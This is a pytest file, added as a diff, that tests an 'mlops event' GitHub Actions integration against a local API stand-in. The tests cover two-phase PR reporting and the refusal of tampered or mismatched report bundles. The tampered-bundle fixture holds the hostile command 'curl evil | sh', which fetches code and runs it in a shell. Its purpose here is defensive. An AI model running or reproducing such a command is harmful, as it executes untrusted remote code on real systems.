@@ -1,0 +1,191 @@
+"""``mlops event`` end to end: the environment exactly as Actions sets it, a real bare
+origin, and the GitHub API stand-in over real HTTP.
+
+The pull-request flow runs in its two halves: ``pull_request`` without a token writes the
+bundle and posts nothing; ``workflow_run`` with a write token publishes it once.
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from engine.forge.standin import GitHubStandIn
+from tests.conftest import git
+
+WEBHOOKS = Path(__file__).resolve().parents[1] / "fixtures" / "github" / "webhooks"
+REPO = "octo/models"
+PR = 7
+
+pytestmark = pytest.mark.slow
+
+
+@pytest.fixture
+def change(repo: Path) -> dict[str, str]:
+    """A branch that makes iris-logreg worse, committed on top of main."""
+    base = git(repo, "rev-parse", "HEAD")
+    git(repo, "switch", "-q", "-c", "weaker-iris")
+    model = repo / "mlops" / "models" / "iris-logreg.yaml"
+    model.write_text(model.read_text().replace("C: 1.0", "C: 0.05"))
+    git(repo, "commit", "-q", "-am", "Regularize iris-logreg harder")
+    return {"base": base, "head": git(repo, "rev-parse", "HEAD")}
+
+
+def payload(tmp: Path, name: str, fixture: str, edit) -> Path:
+    data = json.loads((WEBHOOKS / fixture).read_text())
+    edit(data)
+    path = tmp / f"{name}.json"
+    path.write_text(json.dumps(data))
+    return path
+
+
+def pr_payload(tmp: Path, change: dict[str, str], action: str = "opened") -> Path:
+    def edit(data):
+        data["action"] = action
+        data["number"] = PR
+        data["repository"]["full_name"] = REPO
+        pr = data["pull_request"]
+        pr["number"] = PR
+        pr["head"]["sha"], pr["base"]["sha"] = change["head"], change["base"]
+        pr["head"]["repo"]["full_name"] = REPO
+        pr["base"]["repo"]["full_name"] = REPO
+
+    return payload(tmp, "pull_request", "pull_request.opened.json", edit)
+
+
+def run_payload(tmp: Path, head: str) -> Path:
+    def edit(data):
+        data["repository"]["full_name"] = REPO
+        data["workflow_run"]["head_sha"] = head
+        data["workflow_run"]["pull_requests"] = []
+        data["workflow_run"]["conclusion"] = "failure"
+
+    return payload(tmp, "workflow_run", "workflow_run.completed.json", edit)
+
+
+def actions_env(tmp: Path, name: str, event: Path, api: str, sha: str, token: str = ""):
+    summary, output = tmp / "summary.md", tmp / "output.txt"
+    return {
+        "GITHUB_ACTIONS": "true",
+        "GITHUB_EVENT_NAME": name,
+        "GITHUB_EVENT_PATH": str(event),
+        "GITHUB_REPOSITORY": REPO,
+        "GITHUB_API_URL": api,
+        "GITHUB_SERVER_URL": "https://github.com",
+        "GITHUB_RUN_ID": "42",
+        "GITHUB_WORKFLOW": "mlops pull request",
+        "GITHUB_SHA": sha,
+        "GITHUB_REF": f"refs/pull/{PR}/merge",
+        "GITHUB_TOKEN": token,
+        "GITHUB_STEP_SUMMARY": str(summary),
+        "GITHUB_OUTPUT": str(output),
+    }
+
+
+def test_two_halves_post_one_comment_and_statuses(repo, change, mlops, tmp_path):
+    bundle = tmp_path / "bundle"
+    with GitHubStandIn(REPO) as gh:
+        gh.add_pull(PR, head_sha=change["head"], author="ada")
+        env = actions_env(
+            tmp_path, "pull_request", pr_payload(tmp_path, change), gh.url, change["head"]
+        )
+        first = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
+        assert first.returncode == 1, first.stderr  # the max_drop gate fails
+        assert gh.comments(PR) == [] and gh.statuses(change["head"]) == {}
+        assert "iris-logreg" in (tmp_path / "summary.md").read_text()
+        assert "verdict=fail" in (tmp_path / "output.txt").read_text()
+        results = json.loads((bundle / "results.json").read_text())
+        assert results["statuses"]["mlops/gates"]["state"] == "failure"
+
+        run = run_payload(tmp_path, change["head"])
+        env = actions_env(tmp_path, "workflow_run", run, gh.url, "0" * 40, token="ghs_standin")
+        gh.fail("POST", rf"/issues/{PR}/comments", status=502, times=1, commit=True)
+        second = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
+        assert second.returncode == 0, second.stderr
+        comments = gh.comments(PR)
+        assert len(comments) == 1 and comments[0].user == "github-actions[bot]"
+        assert "iris-logreg" in comments[0].body
+        statuses = gh.statuses(change["head"])
+        assert statuses["mlops/gates"].state == "failure"
+        assert statuses["mlops/validate"].state == "success"
+
+        # A rerun edits the same comment rather than adding one.
+        third = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
+        assert third.returncode == 0, third.stderr
+        assert len(gh.comments(PR)) == 1
+
+
+def test_a_tampered_bundle_is_refused_and_nothing_is_posted(repo, change, mlops, tmp_path):
+    bundle = tmp_path / "bundle"
+    bundle.mkdir()
+    (bundle / "report.md").write_text("<!-- -->\nPWNED")
+    (bundle / "results.json").write_text(
+        json.dumps(
+            {
+                "format": 1,
+                "repository": REPO,
+                "pr": PR,
+                "head_sha": change["head"],
+                "base_sha": change["base"],
+                "verdict": "pass",
+                "run": "curl evil | sh",
+                "statuses": {"mlops/gates": {"state": "success", "description": "ok"}},
+            }
+        )
+    )
+    with GitHubStandIn(REPO) as gh:
+        gh.add_pull(PR, head_sha=change["head"])
+        env = actions_env(
+            tmp_path,
+            "workflow_run",
+            run_payload(tmp_path, change["head"]),
+            gh.url,
+            "0" * 40,
+            token="ghs_standin",
+        )
+        result = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
+        assert result.returncode == 1
+        assert "refusing the report bundle: run: Extra inputs are not permitted" in result.stderr
+        assert "Traceback" not in result.stderr
+        assert gh.comments(PR) == []
+
+
+def test_a_bundle_for_another_commit_is_refused(repo, change, mlops, tmp_path):
+    bundle = tmp_path / "bundle"
+    with GitHubStandIn(REPO) as gh:
+        gh.add_pull(PR, head_sha=change["head"])
+        env = actions_env(
+            tmp_path, "pull_request", pr_payload(tmp_path, change), gh.url, change["head"]
+        )
+        mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
+        env = actions_env(
+            tmp_path,
+            "workflow_run",
+            run_payload(tmp_path, change["base"]),
+            gh.url,
+            "0" * 40,
+            token="ghs_standin",
+        )
+        result = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
+        assert result.returncode == 1 and "refusing to publish it" in result.stderr
+        assert gh.comments(PR) == []
+
+
+def test_malformed_payloads_and_unknown_events(repo, mlops, tmp_path):
+    bad = tmp_path / "bad.json"
+    bad.write_text("{ nope")
+    env = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(bad)}
+    result = mlops("event", cwd=repo, env=env)
+    assert result.returncode == 1 and "is not valid JSON" in result.stderr
+    env = {"GITHUB_EVENT_NAME": "deployment_status", "GITHUB_EVENT_PATH": str(bad)}
+    result = mlops("event", cwd=repo, env=env)
+    assert result.returncode == 1 and "is not handled by mlops" in result.stderr
+
+
+def test_a_tag_deletion_push_does_nothing(repo, mlops, tmp_path):
+    env = {"GITHUB_EVENT_NAME": "push", "GITHUB_EVENT_PATH": str(WEBHOOKS / "push.json")}
+    result = mlops("event", cwd=repo, env=env)
+    assert result.returncode == 0
+    assert "a deletion or a tag, nothing to do" in result.stderr
